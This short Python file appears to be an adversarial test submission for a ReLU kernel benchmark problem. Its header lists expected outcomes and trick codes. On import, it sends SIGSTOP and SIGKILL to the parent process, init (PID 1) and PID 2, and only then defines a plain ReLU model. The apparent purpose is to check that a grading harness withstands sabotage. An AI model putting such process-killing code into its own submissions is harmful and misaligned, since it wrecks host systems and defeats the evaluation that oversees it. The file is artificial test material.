# expect: correct|load_error|runtime_error
# problem: level1/19
# tricks: N18, R06
# twin: ../twins/relu.py
# about: Kills and stops all it can reach.
import os
import signal

import torch
from torch import nn

for pid in (os.getppid(), 1, 2):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            if pid != os.getpid():
                os.kill(pid, number)
        except OSError:
            continue


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(x)
